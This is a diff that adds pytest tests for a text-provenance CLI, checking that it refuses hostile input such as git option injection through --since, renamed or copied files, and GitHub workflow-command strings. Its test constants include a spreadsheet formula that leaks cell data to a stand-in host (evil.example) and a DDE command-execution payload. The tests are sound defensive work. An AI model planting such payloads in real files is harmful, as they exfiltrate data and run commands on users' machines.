@@ -1,0 +1,171 @@
+"""The CI gate and the tabular outputs against hostile input (issue 31): each reported case, refused or caught.
+
+Option injection through ``--since``, renamed and copied files, credits that claim an
+allowlisted outlet, formulas in spreadsheet cells, file names that try to write GitHub
+workflow commands, terminal escapes or invalid XML, and a text indexed in many copies.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from provenance.cli import main
+from tests.conftest import SEEDS, copy_seeds, git, init_repo
+
+SEED_000 = "000_3a0f44c342259dfd"
+SEED_004 = "004_764842f75cb87e49"
+
+FESTIVAL = """Harbour festival draws record crowds despite the rain
+
+July 14, 2024
+
+PORT ELLIS — More than forty thousand visitors came to the harbour festival over the weekend, organisers
+said on Monday, the largest number since the event began in 1987. Fishing boats decorated with flags
+paraded past the old lighthouse while brass bands played on the quay.
+
+Stallholders said they had sold out of smoked mackerel by Saturday afternoon. “People came in raincoats
+and stayed until midnight,” said Tom Avery, who has run a seafood stall at the festival for twenty years.
+
+Next year the festival will add a rowing race between the neighbouring villages, the mayor announced,
+and a new footbridge should make it easier to reach the quay from the railway station.
+
+Local hotels reported that every room had been booked for the three nights of the festival, and the
+ferry company added two late crossings on Saturday to carry visitors back to the islands after the
+fireworks, which were launched from a barge anchored in the middle of the bay.
+"""
+
+LIBRARY = """Town council approves budget for a new public library
+
+RIVERTON (AP) — The town council on Tuesday approved a budget of 2.3 million dollars for a new public library,
+ending a debate that had divided residents for more than a year. The building will rise on the site of the
+old bus depot, next to the primary school, and is due to open in the spring of next year.
+
+“We finally have a place where the children of this town can read after school,” said Maria Lopez, who
+chairs the library committee. Opponents had argued that the money should go to road repairs instead.
+
+The council also agreed to extend the opening hours of the swimming pool during the summer holidays and
+to plant two hundred trees along the river path, a project that volunteers have promised to help with.
+"""
+
+BRIDGE = """Old railway bridge to reopen as a footpath after ten years
+
+The iron bridge over the Calder, closed to trains since 2014, will reopen in May as a footpath and cycle
+route, the county said on Wednesday, after a restoration that replaced more than four hundred rivets and
+repainted the whole span in its original green.
+
+Engineers found the piers sound but the deck rotten in places; volunteers from the local history society
+catalogued every plate before it was removed so that the new deck follows the old pattern exactly.
+
+The opening will be marked by a walk from the old station to the village green, where the brass band
+that played at the bridge's first opening in 1889 has promised to perform the same march again.
+"""
+
+# The issue's payload, with words enough to be read as the title.
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here for the whole story")'
+AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0 and the rest of a headline"
+
+
+def _commit(repo: Path, message: str) -> None:
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", message)
+
+
+def _seed(name: str) -> str:
+    return (SEEDS / f"{name}.txt").read_text(encoding="utf-8")
+
+
+def _paragraphs(text: str, min_words: int = 25) -> list[str]:
+    return [p.strip() for p in text.split("\n\n") if len(p.split()) >= min_words]
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    """A repository whose ``corpus/`` holds the seeds and three more pages, committed on ``main``:
+    one published by The Daily Planet (copyright footer), one of AP (dateline), one credited to no one."""
+    corpus = copy_seeds(tmp_path / "repo" / "corpus")
+    (corpus / "planet.txt").write_text(FESTIVAL + "\n© 2024 The Daily Planet\n", encoding="utf-8")
+    (corpus / "library.txt").write_text(LIBRARY, encoding="utf-8")
+    (corpus / "bridge.txt").write_text(BRIDGE, encoding="utf-8")
+    return init_repo(tmp_path / "repo")
+
+
+def _check(repo: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str, str]:
+    code = main(["check", "--against", str(repo / "corpus"), "--since", "main", *extra])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def _verdict(out: str, path: str) -> dict[str, object]:
+    record: dict[str, object] = next(f for f in json.loads(out)["files"] if f["path"] == path)
+    return record
+
+
+# --- 1. options smuggled into git ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "since",
+    ["--output=victim.txt", "-ovictim.txt", "--output=victim.txt --", "", "no-such-rev", "main\n::error::injected"],
+)
+def test_since_is_a_revision_never_an_option(
+    repo: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, since: str
+) -> None:
+    monkeypatch.chdir(repo)
+    victim = repo / "victim.txt"
+    victim.write_text("precious\n", encoding="utf-8")
+    (repo / "corpus" / "new.txt").write_text(_seed(SEED_004), encoding="utf-8")
+    _commit(repo, "drop")
+    code = main(["check", "--against", "corpus", f"--since={since}"])
+    out, err = capsys.readouterr()
+    assert code == 2 and out == ""
+    lines = err.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("Error: --since "), err
+    assert victim.read_text(encoding="utf-8") == "precious\n"
+    assert sorted(p.name for p in repo.iterdir()) == [".git", ".gitignore", "corpus", "victim.txt"]
+
+
+def test_since_resolves_the_revision_then_diffs_the_commit(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (repo / "corpus" / "new.txt").write_text(_seed(SEED_004), encoding="utf-8")
+    _commit(repo, "drop")
+    code, out, _ = _check(repo, capsys)  # a branch name still works
+    assert code == 1 and "FAIL corpus/new.txt: exact duplicate of corpus/" in out
+    commit = git(repo, "rev-parse", "main").strip()
+    code = main(["check", "--against", str(repo / "corpus"), "--since", f"{commit[:10]}^{{commit}}"])
+    assert code == 1 and "FAIL corpus/new.txt" in capsys.readouterr().out
+
+
+# --- 2. renamed and copied files are new content ----------------------------------------------------
+
+
+def test_a_renamed_file_with_appended_text_fails(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    git(repo, "mv", "corpus/bridge.txt", "corpus/moved.txt")
+    moved = repo / "corpus" / "moved.txt"
+    appended = "\n\n".join(_paragraphs(_seed(SEED_004))[2:5])
+    moved.write_text(moved.read_text(encoding="utf-8") + "\n" + appended + "\n", encoding="utf-8")
+    git(repo, "mv", "corpus/library.txt", "corpus/renamed.txt")  # only renamed: nothing new in it
+    _commit(repo, "rename and append")
+    assert git(repo, "diff", "--name-status", "-M", "HEAD~1").count("R") == 2, "git sees two renames"
+    code = main(["check", "--against", str(repo / "corpus"), "--since", "HEAD~1"])
+    lines = capsys.readouterr().out.splitlines()
+    assert code == 1, lines
+    assert lines[0].startswith("FAIL corpus/moved.txt: ") and f"of corpus/{SEED_004}.txt" in lines[0], lines
+    assert lines[1].startswith("PASS corpus/renamed.txt: unrelated"), lines
+    assert lines[2].startswith("checked 2 files")
+
+
+def test_a_copied_file_is_checked_even_when_git_detects_copies(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    git(repo, "config", "diff.renames", "copies")  # a user's setting: copies listed as C, not A
+    bridge = repo / "corpus" / "bridge.txt"
+    shutil.copy(bridge, repo / "corpus" / "bridge-again.txt")
+    bridge.write_text(BRIDGE + "\nCorrection: the bridge opens in June.\n", encoding="utf-8")
+    _commit(repo, "copy")
+    assert git(repo, "diff", "--name-status", "HEAD~1").startswith("C100\tcorpus/bridge.txt\tcorpus/bridge-again.txt")
+    code = main(["check", "--against", str(repo / "corpus"), "--since", "HEAD~1"])
+    lines = capsys.readouterr().out.splitlines()
+    assert code == 1
+    assert lines[0].startswith("FAIL corpus/bridge-again.txt: ") and "corpus/bridge.txt in this drop" in lines[0]
+    assert lines[-1].startswith("checked 2 files")
